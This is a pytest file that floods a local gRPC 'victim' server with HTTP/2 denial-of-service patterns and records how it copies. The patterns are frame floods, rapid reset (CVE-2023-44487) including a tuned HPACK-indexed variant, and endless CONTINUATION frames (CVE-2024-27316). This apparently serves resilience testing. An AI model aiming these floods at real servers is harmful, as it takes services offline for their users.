"""Frames that cost the sender nothing: pings, settings, resets, empty and unknown ones."""

import time

import pytest

from http2 import (DATA, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, Http2, frame,
                   message, text)
from victim import CLASSIFY, SHORT_MESSAGE

SECONDS = 2


def flood(victim, make, connections=4):
    """Sends what make(attacker, turn) gives, as fast as it is taken; returns turns sent."""
    attackers = [Http2(victim.grpc_port).await_settings() for _ in range(connections)]
    end = time.monotonic() + SECONDS
    turn = 0
    while time.monotonic() < end:
        for i, attacker in enumerate(attackers):
            if attacker.closed:
                attacker.close()
                attackers[i] = attacker = Http2(victim.grpc_port).await_settings()
            attacker.socket.settimeout(1)
            attacker.send(make(attacker, turn))
            attacker.read(0)
            turn += 1
    for attacker in attackers:
        attacker.close()
    return turn


FRAMES = {
    "pings": lambda a, t: frame(PING, 0, 0, b"12345678") * 500,
    "settings": lambda a, t: frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff") * 500,
    "empty data": lambda a, t: frame(DATA, 0, 1) * 500,
    "unknown frames": lambda a, t: frame(0xbb, 0, 0, b"x" * 100) * 100,
    "window updates": lambda a, t: frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01") * 500,
}


QUICK = ("pings", "settings")
CASES = [name if name in QUICK else pytest.param(name, marks=pytest.mark.slow) for name in FRAMES]


@pytest.mark.parametrize("name", CASES)
def test_floods_of_frames(victim, name):
    with victim.watched() as figures:
        figures["turns"] = flood(victim, FRAMES[name])


@pytest.mark.parametrize("reads", [True, False], ids=["read", "not read"])
def test_pings_beside_a_call(victim, reads):
    """The connection has a call, so that bytes without one do not close it; answers may go unread."""
    block = frame(PING, 0, 0, b"12345678") * 500

    def begin():
        attacker = Http2(victim.grpc_port).await_settings()
        attacker.call(1, CLASSIFY)
        attacker.socket.setblocking(False)
        return attacker, 0

    with victim.watched() as figures:
        figures["sent_MB"] = 0
        attackers = [begin() for _ in range(4)]
        end = time.monotonic() + SECONDS
        while time.monotonic() < end:
            for i, (attacker, offset) in enumerate(attackers):
                try:
                    count = attacker.socket.send(block[offset:])
                except BlockingIOError:
                    count = 0
                figures["sent_MB"] += count / 1e6
                attackers[i] = (attacker, (offset + count) % len(block))
                if reads:
                    attacker.read(0)
        for attacker, _ in attackers:
            assert not attacker.closed
            attacker.close()


@pytest.mark.parametrize("whole", [False, True], ids=["headers", "whole calls"])
def test_rapid_reset(victim, whole):
    """Streams opened and reset in one breath (CVE-2023-44487)."""
    state = {}

    def make(attacker, _):
        stream = state.get(id(attacker), 1)
        state[id(attacker)] = stream + 200
        sent = []

        def keep(data):
            sent.append(data)
            return True

        send, attacker.send = attacker.send, keep
        for number in range(stream, stream + 200, 2):
            attacker.call(number, CLASSIFY)
            if whole:
                sent.append(frame(DATA, 1, number, message(SHORT_MESSAGE)))
            attacker.reset(number)
        attacker.send = send
        return b"".join(sent)

    with victim.watched() as figures:
        figures["turns"] = flood(victim, make)


def test_rapid_reset_as_fast_as_the_server_reads(victim):
    """Calls of 28 bytes, made beforehand: every field of their heads is in the HPACK table."""
    indexed = bytes(range(0xC3, 0xBD, -1))  # The six fields, as begin() sends them first.
    sent = b"".join(frame(HEADERS, 4, number, indexed) +
                    frame(RST_STREAM, 0, number, b"\x00\x00\x00\x08")
                    for number in range(3, 400_000, 2))

    def begin():
        attacker = Http2(victim.grpc_port).await_settings()
        fields = [(":method", "POST"), (":scheme", "http"), (":path", CLASSIFY),
                  (":authority", "localhost"), ("te", "trailers"),
                  ("content-type", "application/grpc")]
        attacker.send(frame(HEADERS, 4, 1, b"".join(
            b"\x40" + text(name) + text(value) for name, value in fields)))
        attacker.reset(1)
        attacker.socket.setblocking(False)
        return attacker, memoryview(sent)

    with victim.watched() as figures:
        figures["sent_MB"] = 0
        attackers = [begin() for _ in range(8)]
        end = time.monotonic() + SECONDS
        while time.monotonic() < end:
            for i, (attacker, rest) in enumerate(attackers):
                try:
                    count = attacker.socket.send(rest[:1 << 16])
                except BlockingIOError:
                    continue
                except OSError:
                    count = 0
                figures["sent_MB"] += count / 1e6
                attackers[i] = (attacker, rest[count:])
                if count == 0:
                    attacker.close()
                    attackers[i] = begin()
        for attacker, _ in attackers:
            attacker.close()


@pytest.mark.parametrize("fields", [100, 30])
def test_endless_headers(victim, fields):
    """CONTINUATION frames without an end (CVE-2024-27316 and its kin)."""
    block = b"\x00" + bytes([8]) + b"x-header" + bytes([100]) + b"y" * 100

    def make(attacker, turn):
        if id(attacker) not in begun:
            begun.add(id(attacker))
            return frame(HEADERS, 0, 1, block)
        return frame(9, 0, 1, block * fields)  # CONTINUATION without END_HEADERS.

    begun = set()
    with victim.watched() as figures:
        figures["turns"] = flood(victim, make)


@pytest.mark.slow
def test_resets_of_nothing(victim):
    with victim.watched() as figures:
        figures["turns"] = flood(victim, lambda a, t: b"".join(
            frame(RST_STREAM, 0, 2 * i + 1, b"\x00\x00\x00\x08") for i in range(300)))
